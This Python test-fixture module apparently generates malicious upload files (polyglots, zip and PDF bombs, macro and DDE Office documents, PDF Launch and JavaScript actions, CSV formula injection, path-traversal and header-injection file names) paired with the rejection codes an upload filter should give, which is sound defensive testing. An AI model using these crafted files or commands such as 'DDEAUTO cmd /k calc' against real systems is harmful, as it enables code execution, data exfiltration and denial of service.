"""Files of ill intent, each made here: name as sent, content, and the code it is refused with; "" for taken, inert."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

TAKEN = ""
#: (name as sent, what makes the content, expected code)
Case = tuple[str, Callable[[], bytes], str]
WORD, SHEET = "word/document.xml", "xl/workbook.xml"
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
REL = '<Relationships><Relationship Id="a" Type="http://schemas.example/%s" Target="%s" TargetMode=%s/></Relationships>'
SECRET = b"canary-of-Somchai"


def office(main: str = WORD, **parts: bytes) -> bytes:
    return packed({"[Content_Types].xml": TYPES, main: b"<document/>"} | parts)


def packed(parts: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", kind) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def relations(kind: str, target: str, mode: str = '"External"', encoding: str = "utf-8") -> bytes:
    return office(**{"word/_rels/document.xml.rels": (REL % (kind, target, mode)).encode(encoding)})


def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, **saving: Any) -> bytes:
    made, document = io.BytesIO(), pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    document.save(made, **saving)
    return made.getvalue()


def act(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **more)


def set_root(name: str, value: Any) -> Callable[[pikepdf.Pdf], object]:
    return lambda document: document.Root.__setitem__(f"/{name}", value)


def annotated(action: Any, **more: Any) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action, **more)
        document.pages[0].Annots = pikepdf.Array([link])

    return change


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["run.exe"] = b"MZ"


def bookmarked(document: pikepdf.Pdf) -> None:
    item = pikepdf.Dictionary(Title="x", A=act("Launch", F="cmd.exe"))
    document.Root.Outlines = document.make_indirect(pikepdf.Dictionary(First=document.make_indirect(item)))


def page_acts(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = pikepdf.Dictionary(O=act("JavaScript", JS="1"))


def picture(kind: str = "PNG", size: tuple[int, int] = (8, 8), **saving: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "white").save(made, kind, **saving)
    return made.getvalue()


def tagged() -> bytes:
    tags = Image.Exif()
    tags[0x010E] = SECRET.decode()
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><script>" + SECRET + b"</script></x:xmpmeta>"
    return picture("JPEG", exif=tags, xmp=xmp, comment=SECRET)


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


def png_with(chunk: bytes) -> bytes:
    plain = picture()
    return plain[:33] + chunk + plain[33:]


def huge_png(side: int) -> bytes:
    head = struct.pack(">LLBBBBB", side, side, 8, 2, 0, 0, 0)
    points = png_chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + points + png_chunk(b"IEND", b"")


def texts() -> bytes:
    noted = PngInfo()
    noted.add_text("Comment", SECRET.decode())
    return picture(pnginfo=noted)


def lying(claimed: int, real: int) -> bytes:
    """A part that inflates to far more than the directory and its own head say."""
    content = bytearray(office(**{"word/bomb.xml": b"0" * real}))
    for head, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = -1
        while (at := content.find(head, at + 1)) >= 0:
            if content[at + place : at + place + 4] == struct.pack("<L", real):
                content[at + place : at + place + 4] = struct.pack("<L", claimed)
    return bytes(content)


def lying_and_fitting() -> bytes:
    """The directory's size and check sum both fit the beginning alone: a reader that stops there sees no fault."""
    real, claimed = 5_000_000, 10
    content = bytearray(lying(claimed, real))
    sums = (struct.pack("<L", zlib.crc32(b"0" * real)), struct.pack("<L", zlib.crc32(b"0" * claimed)))
    return bytes(content).replace(*sums)


def other_name() -> bytes:
    """The directory says document.xml, the part's own head says vbaProject.bin."""
    content = office(**{"word/xbaProject.bin": b"x"}).split(b"word/xbaProject.bin")
    return b"word/vbaProject.bin".join(content[:2]) + b"word/xbaProjecu.bin" + content[2]


def overlapping() -> bytes:
    """Two hundred entries of the directory share one part."""
    made, core = io.BytesIO(), zlib.compressobj(9, zlib.DEFLATED, -15)
    part = core.compress(b"0" * 2_000_000) + core.flush()
    real = {"[Content_Types].xml": TYPES, WORD: b"<document/>", "word/a.xml": b"0" * 2_000_000}
    whole = packed(real)
    start = whole.find(part) - 30 - len("word/a.xml")
    directory = whole[whole.find(b"PK\x01\x02") : whole.find(b"PK\x05\x06")]
    last = directory[directory.rfind(b"PK\x01\x02") :]
    assert struct.unpack("<L", last[42:46])[0] == start
    made.write(whole[: whole.find(b"PK\x01\x02")])
    at, copies = made.tell(), b"".join(last.replace(b"word/a.xml", b"word/%03d.x" % n) for n in range(200))
    made.write(directory + copies)
    count, size = len(real) + 200, len(directory) + len(copies)
    made.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, at, 0))
    return made.getvalue()


def locked_zip() -> bytes:
    content = bytearray(office())
    for head, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(head, at + 1)) >= 0:
            content[at + place] |= 1
    return bytes(content)


def ole(words: bytes) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + words + bytes(512)


def bomb(size: int, name: str = "word/bomb.xml") -> bytes:
    """A stream of zeros, packed as it is made: two megabytes for two thousand."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(WORD, b"<document/>")
        with archive.open(name, "w", force_zip64=size > 2**31) as part:
            for _ in range(size // 2**20):
                part.write(bytes(2**20))
    return made.getvalue()


def pdf_bomb(size: int) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(b"0 " * (size // 2))

    return pdf(change)


def deep_pdf() -> bytes:
    return pdf().replace(b"/MediaBox", b"/Deep " + b"[" * 20_000 + b"]" * 20_000 + b"/MediaBox", 1)


def cases() -> Iterator[tuple[str, Case]]:
    yield from POLYGLOTS.items()
    yield from ARCHIVES.items()
    yield from OFFICE.items()
    yield from PDFS.items()
    yield from PICTURES.items()
    yield from TEXTS.items()
    yield from NAMES.items()


POLYGLOTS: dict[str, Case] = {
    "svg named png": ("x.png", lambda: SVG, "mismatch"),
    "html named pdf": ("x.pdf", lambda: HTML, "mismatch"),
    "html named jpg": ("x.jpg", lambda: HTML, "mismatch"),
    "html named docx": ("x.docx", lambda: HTML, "mismatch"),
    "pdf and zip": ("x.pdf", lambda: pdf() + office(), TAKEN),
    "pdf and zip named docx": ("x.docx", lambda: pdf() + office(), "mismatch"),
    "html before a zip": ("x.docx", lambda: HTML + office(), "mismatch"),
    "html before a pdf": ("x.pdf", lambda: HTML + pdf(), "mismatch"),
    "picture and zip": ("x.png", lambda: picture() + office(), TAKEN),
    "picture and script": ("x.jpg", lambda: picture("JPEG", comment=HTML), TAKEN),
    "gif named png": ("x.png", lambda: picture("GIF"), "mismatch"),
    "program named txt": ("x.txt", lambda: b"MZ\x90\x00\x03", "mismatch"),
    "program named pdf": ("x.pdf", lambda: b"\x7fELF\x02\x01\x01", "mismatch"),
}
ARCHIVES: dict[str, Case] = {
    "bomb of 60 MB": ("x.docx", lambda: bomb(60 * 2**20), "too_complex"),
    "directory that lies": ("x.docx", lambda: lying(10, 5_000_000), "too_complex"),
    "directory that lies and fits": ("x.docx", lying_and_fitting, "too_complex"),
    "part under two names": ("x.docx", other_name, "mismatch"),
    "parts that overlap": ("x.docx", overlapping, "too_complex"),
    "3000 parts": ("x.xlsx", lambda: office(SHEET, **{f"xl/{n}": b"" for n in range(3000)}), "too_complex"),
    "zip in a document": ("x.docx", lambda: office(**{"word/a.zip": packed({"a": b"a"})}), "too_complex"),
    "document in a document": ("x.docx", lambda: office(**{"word/a.docx": office()}), "too_complex"),
    "program in a document": ("x.docx", lambda: office(**{"word/a.exe": b"MZ"}), "too_complex"),
    "directory that lies a little": ("x.docx", lambda: lying(10, 500_000), "mismatch"),
    "way out of the folder": ("x.docx", lambda: office(**{"../../../tmp/out": b"x"}), TAKEN),
    "locked zip": ("x.docx", locked_zip, "encrypted"),
    "unknown packing": ("x.docx", lambda: packed({"[Content_Types].xml": TYPES, WORD: b""}, 12), "unreadable"),
    "half an archive": ("x.docx", lambda: office()[:200], "mismatch"),
    "head of an archive alone": ("x.xlsx", lambda: b"PK\x03\x04", "mismatch"),
    "plain zip": ("x.docx", lambda: packed({"a.txt": b"a"}), "mismatch"),
}
OFFICE: dict[str, Case] = {
    "macros": ("x.docx", lambda: office(**{"word/vbaProject.bin": b"x"}), "macros"),
    "macros by their type": (
        "x.docx",
        lambda: packed(
            {"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled</Types>", WORD: b""}
        ),
        "macros",
    ),
    "macro file by its name": ("x.docm", office, "type"),
    "embedded program": ("x.docx", lambda: office(**{"word/embeddings/oleObject1.bin": b"x"}), "macros"),
    "activex": ("x.xlsx", lambda: office(SHEET, **{"xl/activeX/activeX1.xml": b"<x/>"}), "macros"),
    "external links": ("x.xlsx", lambda: office(SHEET, **{"xl/externalLinks/externalLink1.xml": b"<x/>"}), "macros"),
    "template from elsewhere": (
        "x.docx",
        lambda: relations("attachedTemplate", "http://evil.example/t.dotm"),
        "macros",
    ),
    "picture from elsewhere": ("x.docx", lambda: relations("image", "\\\\evil.example\\share", "'External'"), "macros"),
    "elsewhere in UTF-16": ("x.docx", lambda: relations("frame", "http://evil.example", encoding="utf-16"), "macros"),
    "plain link": ("x.docx", lambda: relations("relationships/hyperlink", "https://ilo.org"), TAKEN),
    "link beside a template": (
        "x.docx",
        lambda: office(
            **{
                "word/_rels/a.rels": (REL % ("relationships/hyperlink", "https://ilo.org", '"External"')).encode()
                + (REL % ("attachedTemplate", "http://evil.example", '"External"')).encode()
            }
        ),
        "macros",
    ),
    "entities": ("x.docx", lambda: office(**{"word/e.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "macros"),
    "dde": ("x.docx", lambda: office(**{"word/d.xml": b"<w:instrText> DDEAUTO cmd /k calc</w:instrText>"}), "macros"),
    "locked office file": ("x.docx", lambda: ole("EncryptedPackage".encode("utf-16-le")), "encrypted"),
    "old office file": ("x.docx", lambda: ole(b"Macros"), "mismatch"),
    "sheet named document": ("x.docx", lambda: office(SHEET), "mismatch"),
}
PDFS: dict[str, Case] = {
    "script at opening": ("x.pdf", lambda: pdf(set_root("OpenAction", act("JavaScript", JS="1"))), "macros"),
    "script at a page": ("x.pdf", lambda: pdf(page_acts), "macros"),
    "script at a link": ("x.pdf", lambda: pdf(annotated(act("JavaScript", JS="1"))), "macros"),
    "launch at a link": ("x.pdf", lambda: pdf(annotated(act("Launch", F="cmd.exe"))), "macros"),
    "launch after a link": (
        "x.pdf",
        lambda: pdf(annotated(act("URI", URI="https://ilo.org", Next=act("Launch")))),
        "macros",
    ),
    "launch at a bookmark": ("x.pdf", lambda: pdf(bookmarked), "macros"),
    "form that sends": ("x.pdf", lambda: pdf(annotated(act("SubmitForm", F="https://evil.example"))), "macros"),
    "embedded file": ("x.pdf", lambda: pdf(with_attachment), "macros"),
    "forms of scripts": ("x.pdf", lambda: pdf(set_root("AcroForm", pikepdf.Dictionary(XFA="x"))), "macros"),
    "packed objects": (
        "x.pdf",
        lambda: pdf(annotated(act("Launch")), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "macros",
    ),
    "locked": ("x.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="a", owner="b")), "encrypted"),
    "plain link in a pdf": ("x.pdf", lambda: pdf(annotated(act("URI", URI="https://ilo.org"))), TAKEN),
    "stream of 40 MB": ("x.pdf", lambda: pdf_bomb(40_000_000), TAKEN),
    "nested without end": ("x.pdf", deep_pdf, "unreadable"),
    "no pages": ("x.pdf", lambda: b"%PDF-1.7\n%%EOF", "unreadable"),
    "half a pdf": ("x.pdf", lambda: pdf()[:150], "unreadable"),
}
PICTURES: dict[str, Case] = {
    "place and words in a photograph": ("x.jpg", tagged, TAKEN),
    "words in a picture": ("x.png", texts, TAKEN),
    "400 megapixels": ("x.png", lambda: huge_png(20_000), "too_complex"),
    "4 billion points on a side": ("x.png", lambda: huge_png(2**31 - 1), "too_complex"),
    "half a picture": ("x.png", lambda: picture()[:60], "unreadable"),
    "bomb of words": (
        "x.png",
        lambda: png_with(png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(50_000_000)))),
        "unreadable",
    ),
    "unknown kind of chunk": ("x.png", lambda: picture().replace(b"IDAT", b"IDAU"), "mismatch"),
    "jpeg named png": ("x.png", lambda: picture("JPEG"), "mismatch"),
    "svg": ("x.svg", lambda: SVG, "type"),
}
TEXTS: dict[str, Case] = {
    "formulas": ("x.csv", lambda: b"=cmd|' /C calc'!A0,+1,-1,@SUM(1)\n", TAKEN),
    "html as text": ("x.txt", lambda: HTML, TAKEN),
    "text turned around": ("x.txt", lambda: "a\u202etxt.exe".encode(), TAKEN),
    "utf-16": ("x.csv", lambda: "=1".encode("utf-16"), "mismatch"),
    "utf-16 without a mark": ("x.txt", lambda: "=1".encode("utf-16-le"), "mismatch"),
    "nul": ("x.txt", lambda: b"a\0b", "mismatch"),
    "escape codes": ("x.txt", lambda: b"\x1b]0;title\x07", "mismatch"),
    "empty": ("x.txt", lambda: b"", "empty"),
    "half a character": ("x.txt", lambda: "é".encode()[:1], "mismatch"),
}
NAMES: dict[str, Case] = {
    "two endings": ("walk.pdf.exe", pdf, "type"),
    "program before the ending": ("walk.exe.pdf", pdf, TAKEN),
    "ending turned around": ("walk\u202efdp.exe", pdf, "type"),
    "nul in the name": ("walk.pdf\0.exe", pdf, "type"),
    "line in the name": ("walk\r\nSet-Cookie: a=b.pdf", pdf, TAKEN),
    "way up": ("../../../../etc/cron.d/walk.pdf", pdf, TAKEN),
    "way of windows": ("..\\..\\walk.pdf", pdf, TAKEN),
    "absolute": ("/etc/passwd.txt", lambda: b"a", TAKEN),
    "quotes and tags": ('"><script>alert(1)</script>.txt', lambda: b"a", TAKEN),
    "nothing but an ending": (".pdf", pdf, "type"),
    "stream of windows": ("walk.txt:evil.exe", lambda: b"a", "type"),
    "very long": ("w" * 5000 + ".txt", lambda: b"a", TAKEN),
}
